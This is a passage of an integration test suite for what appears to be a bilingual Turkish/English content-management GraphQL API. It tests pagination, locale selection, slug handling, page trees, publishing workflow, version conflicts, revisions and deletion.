    expect(await eventIds({ tags: [LTAG] })).toEqual([e3.id, e1.id, e2.id]);
    expect(await eventIds({ tags: [LTAG] }, undefined, { field: 'STARTS', direction: 'DESC' })).toEqual([e2.id, e1.id, e3.id]);
    const announcements = ok(await hub.request(ContentAnnouncementPageDocument, { filter: { tags: [LTAG] }, first: 10 })).announcements;
    expect(announcements.nodes.map((n) => n.id)).toEqual([a2.id, a1.id]);
    expect(announcements.nodes.map((n) => n.kind)).toEqual(['CALL', 'NEWS']);
    // The date shown is the publication date (publishAt here).
    expect(announcements.nodes[0].displayAt).toBe(announcements.nodes[0].publishAt);
    const oldestFirst = ok(await hub.request(ContentAnnouncementPageDocument, { filter: { tags: [LTAG] }, first: 10, orderBy: { field: 'PUBLISHED', direction: 'ASC' } }));
    expect(oldestFirst.announcements.nodes.map((n) => n.id)).toEqual([a1.id, a2.id]);
  });

  it('pages through with after cursors: every item once, in the same order as one page, with totalCount', async () => {
    for (const as of [undefined, STAFF]) {
      const whole = await listIds({ tags: [LTAG] }, as);
      expect(whole).toHaveLength(as ? 8 : 7);
      const seen: string[] = [];
      let after: string | null | undefined;
      for (let page = 0; page < 10; page++) {
        const res = ok(await hub.request(ContentListDocument, { filter: { tags: [LTAG] }, first: 3, after }, as)).contents;
        expect(res.totalCount).toBe(whole.length);
        expect(res.nodes.length).toBeLessThanOrEqual(3);
        seen.push(...res.nodes.map((n) => n.id));
        if (!res.pageInfo.hasNextPage) break;
        after = res.pageInfo.endCursor;
      }
      expect(seen).toEqual(whole);
    }
    // Events by start, two at a time.
    const first = ok(await hub.request(ContentEventPageDocument, { filter: { tags: [LTAG] }, first: 2 })).events;
    expect(first.nodes.map((n) => n.id)).toEqual([e3.id, e1.id]);
    expect(first.pageInfo.hasNextPage).toBe(true);
    const second = ok(await hub.request(ContentEventPageDocument, { filter: { tags: [LTAG] }, first: 2, after: first.pageInfo.endCursor })).events;
    expect(second.nodes.map((n) => n.id)).toEqual([e2.id]);
    expect(second.pageInfo.hasNextPage).toBe(false);
    const garbage = await hub.request(ContentListDocument, { filter: { tags: [LTAG] }, first: 2, after: 'not-a-cursor' });
    expect(errorOf(garbage)).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'INVALID_CURSOR' });
  });

  it('serves category names in the locale asked for, lists the categories, and refuses an unknown category key (CATEGORY_NOT_FOUND)', async () => {
    const inEnglish = await read(e2.id, undefined, 'en');
    expect(inEnglish!.category).toEqual({ key: CATEGORY_B, name: 'Events (test)' });
    expect((await read(e2.id, undefined, 'tr'))!.category).toEqual({ key: CATEGORY_B, name: 'Etkinlikler (test)' });
    const categories = ok(await hub.request(ContentCategoryListDocument, {})).contentCategories.map((c) => c.key);
    expect(categories.indexOf(CATEGORY_A)).toBeLessThan(categories.indexOf(CATEGORY_B));
    const res = await hub.request(ContentCreateDetailedDocument, { input: announcement(`Kategorisiz ${uniq()}`, { categoryKey: `missing-${RUN}` }) }, STAFF);
    expect(errorOf(res)).toMatchObject({ code: 'NOT_FOUND', reason: 'CATEGORY_NOT_FOUND', field: 'categoryKey' });
    // An empty key clears the category.
    const cleared = await update({ id: draft.id, version: draft.version, categoryKey: CATEGORY_A });
    expect(cleared.category).toMatchObject({ key: CATEGORY_A });
    expect((await update({ id: draft.id, version: cleared.version, categoryKey: '' })).category).toBeNull();
  });
  it('lets the office create a category and rename or reorder it by key, and nobody else', async () => {
    const key = `ct-new-${RUN}`;
    const created = ok(await hub.request(SaveContentCategoryDocument, { input: { key, name: { tr: 'Burslar', en: 'Scholarships' }, position: 7 } }, STAFF));
    expect(created.saveContentCategory).toEqual({ key, name: 'Burslar', nameTranslations: { tr: 'Burslar', en: 'Scholarships' }, position: 7 });
    const renamed = ok(await hub.request(SaveContentCategoryDocument, { input: { key, name: { tr: 'Burs Olanakları' } } }, ADMIN));
    expect(renamed.saveContentCategory).toMatchObject({ key, nameTranslations: { tr: 'Burs Olanakları', en: null }, position: 7 });
    expect((await sql<{ n: number }>(`select count(*)::int as n from content_category where key = ?`, [key]))[0].n).toBe(1);
    const badKey = await hub.request(SaveContentCategoryDocument, { input: { key: 'Not A Key', name: { en: 'x' } } }, STAFF);
    expect(errorOf(badKey)).toMatchObject({ code: 'BAD_USER_INPUT' });
    expect(errorOf(await hub.request(SaveContentCategoryDocument, { input: { key, name: { en: 'x' } } }))).toMatchObject({ code: 'UNAUTHENTICATED' });
    expect(errorOf(await hub.request(SaveContentCategoryDocument, { input: { key, name: { en: 'x' } } }, APPLICANT))).toMatchObject({ code: 'FORBIDDEN' });
  });
});

// ---------------------------------------------------------------------------------------------------------------------

describe('locales', () => {
  let turkishOnly: Created;
  let bilingual: Created;

  beforeAll(async () => {
    turkishOnly = await publish(
      await create({ type: 'ANNOUNCEMENT', title: { tr: `Yalnız Türkçe ${uniq()}` }, summary: { tr: 'Türkçe özet' }, body: { tr: 'Türkçe **metin**' }, announcement: { kind: 'NOTICE' } }),
    );
    bilingual = await publish(
      await create({
        type: 'ANNOUNCEMENT',
        title: { tr: `İki Dilli ${uniq()}`, en: `Bilingual ${uniq()}` },
        summary: { tr: 'Türkçe özet', en: 'English summary' },
        body: { tr: 'Türkçe **metin**', en: 'English **text**' },
        announcement: { kind: 'NOTICE' },
      }),
    );
  });

  it('serves an item that has only a Turkish title in Turkish when English is asked for, saying locale: tr', async () => {
    const item = await read(turkishOnly.id, undefined, 'en');
    expect(item).toMatchObject({
      title: turkishOnly.titleTranslations.tr,
      summary: 'Türkçe özet',
      body: 'Türkçe **metin**',
      bodyHtml: '<p>Türkçe <strong>metin</strong></p>',
      slug: turkishOnly.slugs.tr,
      locale: 'tr',
      translations: ['tr'],
    });
    expect(turkishOnly.slugs.en).toBeNull();
  });

  it('serves an item with both languages in English when asked, saying locale: en, and in Turkish when asked', async () => {
    expect(await read(bilingual.id, undefined, 'en')).toMatchObject({
      title: bilingual.titleTranslations.en,
      summary: 'English summary',
      body: 'English **text**',
      bodyHtml: '<p>English <strong>text</strong></p>',
      slug: bilingual.slugs.en,
      locale: 'en',
      translations: ['tr', 'en'],
    });
    expect(await read(bilingual.id, undefined, 'tr')).toMatchObject({ title: bilingual.titleTranslations.tr, summary: 'Türkçe özet', slug: bilingual.slugs.tr, locale: 'tr' });
    // In a list too.
    const listed = ok(await hub.request(ContentListDocument, { filter: { tags: [TAG], search: bilingual.titleTranslations.en! }, first: 5, locale: 'en' })).contents.nodes;
    expect(listed).toEqual([expect.objectContaining({ id: bilingual.id, title: bilingual.titleTranslations.en, locale: 'en' })]);
  });

  it('takes the locale from Accept-Language when no locale argument is given; the argument wins over the header; Turkish by default', async () => {
    const ask = (locale: 'tr' | 'en' | undefined, headers: Record<string, string>) =>
      hub.request(ContentDetailByIdDocument, { id: bilingual.id, locale }, undefined, headers).then((r) => ok(r).content!);
    expect(await ask(undefined, {})).toMatchObject({ locale: 'tr', title: bilingual.titleTranslations.tr });
    expect(await ask(undefined, { 'accept-language': 'en-GB,en;q=0.9,tr;q=0.5' })).toMatchObject({ locale: 'en', title: bilingual.titleTranslations.en });
    expect(await ask(undefined, { 'accept-language': 'de-DE,tr;q=0.8' })).toMatchObject({ locale: 'tr' });
    expect(await ask('tr', { 'accept-language': 'en' })).toMatchObject({ locale: 'tr', title: bilingual.titleTranslations.tr });
    expect(await ask('en', { 'accept-language': 'tr' })).toMatchObject({ locale: 'en', title: bilingual.titleTranslations.en });
    // The Turkish-only item stays Turkish whatever the header says.
    const res = await hub.request(ContentDetailByIdDocument, { id: turkishOnly.id }, undefined, { 'accept-language': 'en' });
    expect(ok(res).content).toMatchObject({ locale: 'tr', title: turkishOnly.titleTranslations.tr });
  });
});

// ---------------------------------------------------------------------------------------------------------------------

describe('slugs', () => {
  const S = uniq();
  const trTitle = `Öğrenci Değişim Günü ${S}`;
  const enTitle = `Student Exchange Day ${S}`;
  let first: Created;

  beforeAll(async () => {
    first = await publish(await create(announcement(trTitle, { title: { tr: trTitle, en: enTitle } })));
  });

  it('derives a slug per locale from the title, transliterating Turkish letters', () => {
    expect(first.slugs).toEqual({ tr: `ogrenci-degisim-gunu-${S}`, en: `student-exchange-day-${S}` });
    expect(first.slug).toBe(`ogrenci-degisim-gunu-${S}`);
    expect(first.path).toBe(`ogrenci-degisim-gunu-${S}`);
  });

  it('numbers a derived slug that the same type already uses in that locale (-2, -3), but not one another type uses', async () => {
    const second = await create(announcement(trTitle, { title: { tr: trTitle, en: enTitle } }));
    expect(second.slugs).toEqual({ tr: `ogrenci-degisim-gunu-${S}-2`, en: `student-exchange-day-${S}-2` });
    const third = await create(announcement(trTitle, { title: { tr: trTitle } }));
    expect(third.slugs).toEqual({ tr: `ogrenci-degisim-gunu-${S}-3`, en: null });
    const asEvent = await create(event(trTitle, {}, { title: { tr: trTitle, en: enTitle } }));
    expect(asEvent.slugs).toEqual({ tr: `ogrenci-degisim-gunu-${S}`, en: `student-exchange-day-${S}` });
    // Per type: the event's slug finds the event, the announcement's the announcement.
    expect(ok(await hub.request(ContentBySlugDocument, { type: 'EVENT', slug: asEvent.slugs.tr! }, STAFF)).contentBySlug!.id).toBe(asEvent.id);
    expect(ok(await hub.request(ContentBySlugDocument, { type: 'ANNOUNCEMENT', slug: first.slugs.tr! }, STAFF)).contentBySlug!.id).toBe(first.id);
  });

  it('refuses an explicit slug that is taken (CONFLICT SLUG_TAKEN) and one that is not a slug (INVALID_SLUG)', async () => {
    const taken = await hub.request(ContentCreateDetailedDocument, { input: announcement(`Başka ${uniq()}`, { slug: { tr: first.slugs.tr } }) }, STAFF);
    expect(errorOf(taken)).toMatchObject({ code: 'CONFLICT', reason: 'SLUG_TAKEN', field: 'slug.tr' });
    const other = await create(announcement(`Başka Bir ${uniq()}`));
    const takenOnUpdate = await hub.request(ContentUpdateDetailedDocument, { input: { id: other.id, version: other.version, slug: { en: first.slugs.en } } }, STAFF);
    expect(errorOf(takenOnUpdate)).toMatchObject({ code: 'CONFLICT', reason: 'SLUG_TAKEN', field: 'slug.en' });
    expect((await read(other.id, STAFF))!.slugs).toEqual(other.slugs);
    for (const bad of ['Büyük Harf', 'a--b', '-start', 'with/slash', 'öğrenci', 'x'.repeat(101)]) {
      const res = await hub.request(ContentCreateDetailedDocument, { input: announcement(`Geçersiz ${uniq()}`, { slug: { tr: bad } }) }, STAFF);
      expect({ bad, ...errorOf(res) }).toMatchObject({ bad, code: 'BAD_USER_INPUT', reason: 'INVALID_SLUG', field: 'slug.tr' });
    }
    // An explicit free slug is taken as given.
    const explicit = await create(announcement(`Açık ${uniq()}`, { slug: { tr: `acik-adres-${S}` } }));
    expect(explicit.slugs.tr).toBe(`acik-adres-${S}`);
  });

  it("finds an item by the other locale's slug, served in the locale asked for; case and spaces do not matter", async () => {
    const byEnglishSlugInTurkish = ok(await hub.request(ContentBySlugDocument, { type: 'ANNOUNCEMENT', slug: first.slugs.en!, locale: 'tr' })).contentBySlug;
    expect(byEnglishSlugInTurkish).toMatchObject({ id: first.id, title: trTitle, locale: 'tr', slug: first.slugs.tr });
    const byTurkishSlugInEnglish = ok(await hub.request(ContentBySlugDocument, { type: 'ANNOUNCEMENT', slug: first.slugs.tr!, locale: 'en' })).contentBySlug;
    expect(byTurkishSlugInEnglish).toMatchObject({ id: first.id, title: enTitle, locale: 'en', slug: first.slugs.en });
    const shouting = ok(await hub.request(ContentBySlugDocument, { type: 'ANNOUNCEMENT', slug: `  ${first.slugs.tr!.toUpperCase()} ` })).contentBySlug;
    expect(shouting?.id).toBe(first.id);
    expect(ok(await hub.request(ContentBySlugDocument, { type: 'ANNOUNCEMENT', slug: `no-such-${S}` })).contentBySlug).toBeNull();
  });

  it('keeps the slug when the title changes, and moves the address when the slug changes', async () => {
    const item = await publish(await create(announcement(`Eski Başlık ${uniq()}`)));
    const retitled = await update({ id: item.id, version: item.version, title: { tr: `Yeni Başlık ${uniq()}` } });
    expect(retitled.slugs.tr).toBe(item.slugs.tr);
    const moved = await update({ id: item.id, version: retitled.version, slug: { tr: `yeni-adres-${S}` } });
    expect(moved.slugs.tr).toBe(`yeni-adres-${S}`);
    expect(ok(await hub.request(ContentBySlugDocument, { type: 'ANNOUNCEMENT', slug: `yeni-adres-${S}` })).contentBySlug?.id).toBe(item.id);
    expect(ok(await hub.request(ContentBySlugDocument, { type: 'ANNOUNCEMENT', slug: item.slugs.tr! })).contentBySlug).toBeNull();
  });
});

// ---------------------------------------------------------------------------------------------------------------------

describe('page tree', () => {
  const P = uniq();
  let parent: Created, child: Created, draftChild: Created, grandchild: Created;

  beforeAll(async () => {
    parent = await publish(await create({ type: 'PAGE', title: { tr: `Erasmus ${P}`, en: `Erasmus ${P}` }, slug: { tr: `erasmus-${P}`, en: `erasmus-${P}` } }));
    child = await publish(await create({ type: 'PAGE', title: { tr: 'Nasıl Başvurulur', en: 'How to apply' }, page: { parentId: parent.id, position: 1 } }));
    draftChild = await create({ type: 'PAGE', title: { tr: 'Taslak Alt Sayfa', en: 'Draft subpage' }, page: { parentId: parent.id, position: 2 } });
    grandchild = await publish(await create({ type: 'PAGE', title: { tr: 'Belgeler', en: 'Documents' }, page: { parentId: child.id } }));
  });

  it("gives a sub-page the path parent/child in each locale and finds it by path, with its parent and breadcrumbs", async () => {
    expect(child.path).toBe(`erasmus-${P}/nasil-basvurulur`);
    const english = ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-${P}/how-to-apply`, locale: 'en' })).page;
    expect(english).toMatchObject({
      id: child.id,
      title: 'How to apply',
      path: `erasmus-${P}/how-to-apply`,
      slug: 'how-to-apply',
      parent: { id: parent.id, path: `erasmus-${P}` },
      breadcrumbs: [{ id: parent.id, title: `Erasmus ${P}`, path: `erasmus-${P}` }],
      children: [{ id: grandchild.id, title: 'Documents', path: `erasmus-${P}/how-to-apply/documents` }],
    });
    const turkish = ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-${P}/nasil-basvurulur`, locale: 'tr' })).page;
    expect(turkish).toMatchObject({ id: child.id, title: 'Nasıl Başvurulur', path: `erasmus-${P}/nasil-basvurulur` });
    // The other locale's path works too (served in the locale asked for); slashes and case do not matter.
    expect(ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-${P}/how-to-apply`, locale: 'tr' })).page).toMatchObject({ id: child.id, path: `erasmus-${P}/nasil-basvurulur` });
    expect(ok(await hub.request(ContentPageTreeDocument, { path: `/Erasmus-${P}/How-To-Apply/`, locale: 'en' })).page?.id).toBe(child.id);
    const deep = ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-${P}/how-to-apply/documents`, locale: 'en' })).page;
    expect(deep!.breadcrumbs.map((b) => b.id)).toEqual([parent.id, child.id]);
    // The slug alone is not the path of a sub-page.
    expect(ok(await hub.request(ContentPageTreeDocument, { path: 'how-to-apply', locale: 'en' })).page).toBeNull();
  });

  it('lists only live sub-pages to the public and every sub-page, in order, to the office; a draft page has no public path', async () => {
    const pub = ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-${P}`, locale: 'en' })).page;
    expect(pub!.children.map((c) => c.id)).toEqual([child.id]);
    const office = ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-${P}`, locale: 'en' }, STAFF)).page;
    expect(office!.children.map((c) => [c.id, c.status])).toEqual([
      [child.id, 'PUBLISHED'],
      [draftChild.id, 'DRAFT'],
    ]);
    expect(ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-${P}/draft-subpage`, locale: 'en' })).page).toBeNull();
    expect(ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-${P}/draft-subpage`, locale: 'en' }, STAFF)).page?.id).toBe(draftChild.id);
    const under = ok(await hub.request(ContentPageListDocument, { filter: { parentId: parent.id }, first: 10 }, STAFF)).pages;
    expect(under.nodes.map((n) => n.id)).toEqual([child.id, draftChild.id]);
    expect(ok(await hub.request(ContentPageListDocument, { filter: { parentId: parent.id }, first: 10 })).pages.nodes.map((n) => n.id)).toEqual([child.id]);
  });

  it("rewrites the sub-pages' paths, all the way down, when a parent's slug changes", async () => {
    const current = (await read(parent.id, STAFF))!;
    const renamed = await update({ id: parent.id, version: current.version, slug: { tr: `erasmus-arti-${P}`, en: `erasmus-plus-${P}` } });
    expect(renamed.slugs).toEqual({ tr: `erasmus-arti-${P}`, en: `erasmus-plus-${P}` });
    expect(ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-plus-${P}/how-to-apply`, locale: 'en' })).page?.id).toBe(child.id);
    expect(ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-arti-${P}/nasil-basvurulur`, locale: 'tr' })).page?.id).toBe(child.id);
    expect(ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-plus-${P}/how-to-apply/documents`, locale: 'en' })).page?.id).toBe(grandchild.id);
    expect(ok(await hub.request(ContentPageTreeDocument, { path: `erasmus-${P}/how-to-apply`, locale: 'en' })).page).toBeNull();
    expect((await read(draftChild.id, STAFF, 'en'))!.path).toBe(`erasmus-plus-${P}/draft-subpage`);
  });

  it('refuses to make a page its own parent or the child of one of its descendants (PAGE_CYCLE), and a parent that is not a page', async () => {
    const current = (await read(parent.id, STAFF))!;
    for (const parentId of [parent.id, child.id, grandchild.id]) {
      const res = await hub.request(ContentUpdateDetailedDocument, { input: { id: parent.id, version: current.version, page: { parentId } } }, STAFF);
      expect(errorOf(res)).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'PAGE_CYCLE', field: 'page.parentId' });
    }
    const anEvent = await create(event(`Sayfa Değil ${uniq()}`));
    const notAPage = await hub.request(ContentUpdateDetailedDocument, { input: { id: child.id, version: child.version, page: { parentId: anEvent.id } } }, STAFF);
    expect(errorOf(notAPage)).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'WRONG_CONTENT_TYPE', field: 'page.parentId' });
    expect((await read(parent.id, STAFF))!).toMatchObject({ version: current.version, parent: null });
    // Moving a sub-page to the top level is fine.
    const sibling = await create({ type: 'PAGE', title: { tr: `Taşınan ${P}` }, page: { parentId: child.id } });
    const moved = await update({ id: sibling.id, version: sibling.version, page: { parentId: null } });
    expect(moved).toMatchObject({ parent: null, path: `tasinan-${P}` });
  });
});

// ---------------------------------------------------------------------------------------------------------------------

describe('workflow', () => {
  it('goes DRAFT → IN_REVIEW → DRAFT (with a note) → PUBLISHED → ARCHIVED → PUBLISHED, each step a new version and revision', async () => {
    const created = await create(announcement(`İş Akışı ${uniq()}`));
    const inReview = await submit(created);
    expect(inReview).toMatchObject({ status: 'IN_REVIEW', visibility: 'IN_REVIEW', version: 2 });
    const back = ok(await hub.request(ReturnContentToDraftDocument, { id: created.id, version: 2, note: 'Tarihleri düzeltin' }, STAFF)).returnContentToDraft;
    expect(back).toMatchObject({ status: 'DRAFT', version: 3 });
    const live = await publish(back);
    expect(live).toMatchObject({ status: 'PUBLISHED', visibility: 'LIVE', version: 4, publishAt: null });
    expect(live.publishedAt).not.toBeNull();
    const archived = await archive(live);
    expect(archived).toMatchObject({ status: 'ARCHIVED', visibility: 'ARCHIVED', version: 5 });
    expect(await read(created.id)).toBeNull();
    const again = await publish(archived);
    expect(again).toMatchObject({ status: 'PUBLISHED', visibility: 'LIVE', version: 6 });
    // The first publication date is kept.
    expect(again.publishedAt).toBe(live.publishedAt);
    const revisions = ok(await hub.request(ContentRevisionsDetailedDocument, { id: created.id }, STAFF)).content!.revisions;
    expect(revisions.map((r) => [r.number, r.version, r.status, r.note])).toEqual([
      [6, 6, 'PUBLISHED', 'published'],
      [5, 5, 'ARCHIVED', 'archived'],
      [4, 4, 'PUBLISHED', 'published'],
      [3, 3, 'DRAFT', 'returned to draft: Tarihleri düzeltin'],
      [2, 2, 'IN_REVIEW', 'submitted for review'],
      [1, 1, 'DRAFT', 'created'],
    ]);
  });

  it('keeps the date of a live item published again to give it an end, and does not announce it as going live again', async () => {
    const live = await publish(await create(announcement(`Yeniden Yayın ${uniq()}`)));
    const outboxPublished = async () =>
      (await sql<{ n: number }>(`select count(*)::int as n from outbox_event where aggregate_id = ? and type = 'content.published'`, [uuidOf(live.id)]))[0].n;
    expect(await outboxPublished()).toBe(1);
    await waitFor(() => Date.now() > Date.parse(live.displayAt) + 50, 1000, 'the clock to move on');
    const withEnd = await publish(live, { unpublishAt: at(DAY) });
    expect(withEnd).toMatchObject({ visibility: 'LIVE', displayAt: live.displayAt, publishedAt: live.publishedAt });
    expect(await outboxPublished()).toBe(1);
    // Published again from the archive, it is new again: a new date and a new announcement.
    const archived = await archive(withEnd);
    const again = await publish(archived);
    expect(Date.parse(again.displayAt)).toBeGreaterThan(Date.parse(live.displayAt));
    expect(again.publishedAt).toBe(live.publishedAt);
    expect(await outboxPublished()).toBe(2);
  });

  it('refuses a transition the workflow does not allow (CONFLICT INVALID_TRANSITION, with the allowed ones)', async () => {
    const live = await publish(await create(announcement(`Geçiş ${uniq()}`)));
    const res = await hub.request(SubmitContentForReviewDocument, { id: live.id, version: live.version }, STAFF);
    expect(errorOf(res)).toMatchObject({ code: 'CONFLICT', reason: 'INVALID_TRANSITION', from: 'PUBLISHED', to: 'IN_REVIEW', allowed: ['DRAFT', 'PUBLISHED', 'ARCHIVED'] });
    const archived = await archive(live);
    const again = await hub.request(ArchiveContentDocument, { id: archived.id, version: archived.version }, STAFF);
    expect(errorOf(again)).toMatchObject({ reason: 'INVALID_TRANSITION', from: 'ARCHIVED', to: 'ARCHIVED', allowed: ['DRAFT', 'PUBLISHED'] });
    const review = await hub.request(SubmitContentForReviewDocument, { id: archived.id, version: archived.version }, STAFF);
    expect(errorOf(review)).toMatchObject({ reason: 'INVALID_TRANSITION', from: 'ARCHIVED', to: 'IN_REVIEW' });
    expect((await read(live.id, STAFF))!.version).toBe(archived.version);
  });

  it('refuses a publication window that has ended or ends before it starts (INVALID_WINDOW)', async () => {
    const item = await create(announcement(`Pencere ${uniq()}`));
    const ended = await hub.request(PublishContentDocument, { id: item.id, version: item.version, unpublishAt: at(-HOUR) }, STAFF);
    expect(errorOf(ended)).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'INVALID_WINDOW', field: 'unpublishAt' });
    const reversed = await hub.request(PublishContentDocument, { id: item.id, version: item.version, publishAt: at(2 * DAY), unpublishAt: at(DAY) }, STAFF);
    expect(errorOf(reversed)).toMatchObject({ reason: 'INVALID_WINDOW', field: 'unpublishAt' });
    expect((await read(item.id, STAFF))!).toMatchObject({ status: 'DRAFT', version: 1 });
  });

  it('refuses a save with a stale version (CONFLICT VERSION_CONFLICT) and keeps the newer save', async () => {
    const item = await create(announcement(`Sürüm ${uniq()}`));
    const saved = await update({ id: item.id, version: 1, title: { tr: `Birinci Kayıt ${RUN}` } });
    expect(saved.version).toBe(2);
    const stale = await hub.request(ContentUpdateDetailedDocument, { input: { id: item.id, version: 1, title: { tr: 'Eski sürümden' } } }, STAFF);
    expect(errorOf(stale)).toMatchObject({ code: 'CONFLICT', reason: 'VERSION_CONFLICT', field: 'version', expectedVersion: 1, currentVersion: 2 });
    const stalePublish = await hub.request(PublishContentDocument, { id: item.id, version: 1 }, STAFF);
    expect(errorOf(stalePublish)).toMatchObject({ reason: 'VERSION_CONFLICT' });
    expect((await read(item.id, STAFF))!).toMatchObject({ version: 2, title: `Birinci Kayıt ${RUN}`, status: 'DRAFT' });
  });

  it('lets exactly one of several simultaneous saves of the same version win; the others wait for it and get VERSION_CONFLICT', async () => {
    const item = await create(announcement(`Eşzamanlı ${uniq()}`));
    const results = await Promise.all(
      Array.from({ length: 5 }, (_, i) => hub.request(ContentUpdateDetailedDocument, { input: { id: item.id, version: 1, title: { tr: `Yarış ${i} ${RUN}` } } }, STAFF)),
    );
    const won = results.filter((r) => !r.errors);
    expect(won).toHaveLength(1);
    expect(results.filter((r) => r.errors).map((r) => errorOf(r).reason)).toEqual(Array(4).fill('VERSION_CONFLICT'));
    expect((await read(item.id, STAFF))!).toMatchObject({ version: 2, title: won[0].data!.updateContent.title });
  });
});

// ---------------------------------------------------------------------------------------------------------------------

describe('revisions', () => {
  it('adds a revision on every save, with its author, note and the version it saved, newest first', async () => {
    const created = await create(announcement(`Revizyon ${uniq()}`));
    const byAdmin = await update({ id: created.id, version: 1, summary: { tr: 'Yönetici özeti' } }, ADMIN);
    await submit(byAdmin);
    const revisions = ok(await hub.request(ContentRevisionsDetailedDocument, { id: created.id }, ADMIN)).content!;
    expect(revisions.version).toBe(3);
    expect(revisions.revisions.map(({ number, version, status, author, note }) => ({ number, version, status, author, note }))).toEqual([
      { number: 3, version: 3, status: 'IN_REVIEW', author: STAFF.sub, note: 'submitted for review' },
      { number: 2, version: 2, status: 'DRAFT', author: ADMIN.sub, note: 'updated' },
      { number: 1, version: 1, status: 'DRAFT', author: STAFF.sub, note: 'created' },
    ]);
    const times = revisions.revisions.map((r) => Date.parse(r.at));
    expect([...times].sort((a, b) => b - a)).toEqual(times);
  });

  it('restores the title and body of an earlier revision (the status stays), adding a "restored from #n" revision', async () => {
    const title = `İlk Başlık ${uniq()}`;
    const created = await create(announcement(title, { title: { tr: title }, body: { tr: '# İlk\n\nİlk metin' } }));
    const v2 = await update({ id: created.id, version: 1, title: { tr: `İkinci Başlık ${uniq()}` } });
    const v3 = await update({ id: created.id, version: v2.version, body: { tr: 'İkinci **metin**' } });
    const v4 = await submit(v3);
    expect(v4).toMatchObject({ title: v2.title, body: 'İkinci **metin**', status: 'IN_REVIEW' });
    const restored = ok(await hub.request(RestoreContentRevisionDocument, { id: created.id, version: v4.version, revision: 1 }, STAFF)).restoreContentRevision;
    expect(restored).toMatchObject({
      title,
      body: '# İlk\n\nİlk metin',
      bodyHtml: '<h2>İlk</h2>\n<p>İlk metin</p>',
      status: 'IN_REVIEW',
      version: 5,
      slug: created.slug,
    });
    const revisions = ok(await hub.request(ContentRevisionsDetailedDocument, { id: created.id }, STAFF)).content!.revisions;
    expect(revisions[0]).toMatchObject({ number: 5, version: 5, status: 'IN_REVIEW', author: STAFF.sub, note: 'restored from #1' });
    expect(revisions).toHaveLength(5);
    // Restoring the revision of the second title brings that back.
    const second = ok(await hub.request(RestoreContentRevisionDocument, { id: created.id, version: 5, revision: 2 }, STAFF)).restoreContentRevision;
    expect(second).toMatchObject({ title: v2.title, body: '# İlk\n\nİlk metin', version: 6 });
    const missing = await hub.request(RestoreContentRevisionDocument, { id: created.id, version: 6, revision: 99 }, STAFF);
    expect(errorOf(missing)).toMatchObject({ code: 'NOT_FOUND', reason: 'REVISION_NOT_FOUND' });
  });

  it("refuses to restore a page's earlier parent once that parent has become its descendant (PAGE_CYCLE)", async () => {
    const a = await create({ type: 'PAGE', title: { tr: `Döngü A ${uniq()}` } });
    const b = await create({ type: 'PAGE', title: { tr: `Döngü B ${uniq()}` } });
    const aUnderB = await update({ id: a.id, version: a.version, page: { parentId: b.id } }); // revision 2 of A
    const aOnTop = await update({ id: a.id, version: aUnderB.version, page: { parentId: null } });
    await update({ id: b.id, version: b.version, page: { parentId: a.id } });
    const res = await hub.request(RestoreContentRevisionDocument, { id: a.id, version: aOnTop.version, revision: 2 }, STAFF);
    expect(errorOf(res)).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'PAGE_CYCLE', field: 'page.parentId' });
    expect(await read(a.id, STAFF)).toMatchObject({ version: aOnTop.version, parent: null });
    expect(await read(b.id, STAFF)).toMatchObject({ parent: { id: a.id } });
  });

  it('restores a revision whose cover image and category were deleted since, leaving them out instead of failing', async () => {
    const [oldCover, newCover] = [await uploadImage(), await uploadImage()];
    const oldCategory = `ct-old-${uniq()}`;
    await sql(`insert into content_category (id, key, name) values (gen_random_uuid(), ?, ?::jsonb)`, [oldCategory, JSON.stringify({ tr: 'Eski' })]);
    const created = await create(announcement(`Eski Kapak ${uniq()}`, { coverImageId: oldCover, categoryKey: oldCategory }));
    expect(created).toMatchObject({ coverImage: { id: oldCover }, category: { key: oldCategory } });
    const changed = await update({ id: created.id, version: 1, coverImageId: newCover, categoryKey: CATEGORY_A, title: { tr: `Yeni Kapak ${uniq()}` } });
    // No item uses them any more, so they may go (as deleteMediaAsset allows).
    await sql(`delete from media_asset where id = ?`, [uuidOf(oldCover)]);
    await sql(`delete from content_category where key = ?`, [oldCategory]);
    const res = await hub.request(RestoreContentRevisionDocument, { id: created.id, version: changed.version, revision: 1 }, STAFF);
    expect(res.errors).toBeUndefined();
    expect(res.data!.restoreContentRevision).toMatchObject({ title: created.title, coverImage: null, category: null, version: changed.version + 1 });
  });

  it('refuses revisions to visitors, applicants and coordinators (FORBIDDEN), even of a live item', async () => {
    const live = await publish(await create(announcement(`Gizli Geçmiş ${uniq()}`)));
    for (const [who, as] of PUBLIC) {
      const res = await hub.request(ContentRevisionsDetailedDocument, { id: live.id }, as);
      expect({ who, code: errorOf(res).code }).toEqual({ who, code: 'FORBIDDEN' });
      expect(res.data?.content ?? null).toBeNull();
    }
  });
});

// ---------------------------------------------------------------------------------------------------------------------

describe('deleteContent', () => {
  it('deletes a draft that was never published, freeing its slug', async () => {
    const title = `Silinecek ${uniq()}`;
    const draft = await submit(await create(announcement(title)));
    const back = ok(await hub.request(ReturnContentToDraftDocument, { id: draft.id, version: draft.version }, STAFF)).returnContentToDraft;
    const res = ok(await hub.request(DeleteContentDocument, { id: draft.id, version: back.version }, STAFF));
    expect(res.deleteContent).toBe(draft.id);
    expect(await read(draft.id, STAFF)).toBeNull();
    expect(ok(await hub.request(ContentRevisionsDetailedDocument, { id: draft.id }, STAFF)).content).toBeNull();
    const again = await create(announcement(title));
    expect(again.slug).toBe(draft.slug);
  });

  it('refuses to delete anything that was ever published (CONTENT_NOT_DELETABLE) and a page with sub-pages (PAGE_HAS_CHILDREN)', async () => {
    const live = await publish(await create(announcement(`Yayında ${uniq()}`)));
    const res = await hub.request(DeleteContentDocument, { id: live.id, version: live.version }, STAFF);
